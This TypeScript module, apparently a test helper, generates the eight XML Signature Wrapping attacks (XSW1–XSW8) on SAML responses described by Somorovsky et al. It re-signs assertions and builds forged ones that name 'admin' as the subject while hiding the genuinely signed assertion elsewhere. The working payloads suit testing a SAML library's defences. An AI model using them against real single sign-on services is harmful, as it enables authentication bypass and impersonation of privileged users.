import { createRequire } from 'node:module'

const { signXml } = createRequire(import.meta.url)('@node-saml/node-saml/lib/xml.js') as {
  signXml(
    xml: string,
    xpath: string,
    location: { reference: string; action: string },
    options: { privateKey: string; signatureAlgorithm: string; digestAlgorithm: string },
  ): string
}

export const decode = (sent: string): string => Buffer.from(sent, 'base64').toString()
export const encode = (xml: string): string => Buffer.from(xml).toString('base64')

const SIGNATURES = /<(ds:|)Signature .*?<\/\1Signature>/gs
const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s

export const unsigned = (xml: string): string => xml.replace(SIGNATURES, '')
export const assertionOf = (xml: string): string => ASSERTION.exec(xml)![0]

/** The answer as whoever has this key would have written it, only its assertion signed. */
export function resign(xml: string, privateKey: string, algorithm = 'sha256'): string {
  const assertion = "//*[local-name(.)='Assertion']"
  const location = { reference: `${assertion}/*[local-name(.)='Issuer']`, action: 'after' }
  return signXml(unsigned(xml), assertion, location, {
    ...{ privateKey, signatureAlgorithm: algorithm, digestAlgorithm: algorithm },
  })
}

/** The assertion of somebody else, as an attacker would word it. */
const evil = (assertion: string, signature = ''): string =>
  unsigned(assertion)
    .replace(/ ID="[^"]+"/, ' ID="_evil"')
    .replace(/>[^<]+<\/saml:NameID>/, '>admin</saml:NameID>')
    .replace('</saml:Issuer>', () => `</saml:Issuer>${signature}`)

/**
 * Signature wrapping as Somorovsky et al. number it (“On Breaking SAML”, 2012): what is signed stands somewhere, what is
 * read is somebody else's.
 * @param xml an answer that is signed as a whole, and its assertion by itself.
 */
export function wrappings(xml: string, key: string): Record<string, string> {
  const single = resign(xml, key)
  const assertion = assertionOf(single)
  const own = unsigned(assertion)
  const [signature] = assertion.match(SIGNATURES)!
  const inAnswer = (text: string): string => single.replace(ASSERTION, () => text)
  const filled = (text: string): string => signature.replace(/<\/(ds:|)Signature>$/, (end) => `${text}${end}`)
  const [outer] = xml.match(SIGNATURES)!
  const inner = unsigned(xml)
  const around = (text: string): string =>
    unsigned(xml)
      .replace(/ ID="[^"]+"/, ' ID="_evil-answer"')
      .replace(ASSERTION, () => evil(assertionOf(xml)))
      .replace('</saml:Issuer>', () => `</saml:Issuer>${text}`)
  const object = (text: string): string =>
    `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${text}</ds:Object>`
  return {
    XSW1: around(outer.replace('</ds:Signature>', () => `${object(inner)}</ds:Signature>`)),
    XSW2: around(`${inner}${outer}`),
    XSW3: inAnswer(`${evil(own)}${assertion}`),
    XSW4: inAnswer(evil(own).replace('</saml:Issuer>', () => `</saml:Issuer>${assertion}`)),
    XSW5: inAnswer(`${evil(own, signature)}${own}`),
    XSW6: inAnswer(evil(own, filled(own))),
    XSW7: inAnswer(`<samlp:Extensions>${evil(own)}</samlp:Extensions>${assertion}`),
    XSW8: inAnswer(evil(own, filled(object(own)))),
  }
}
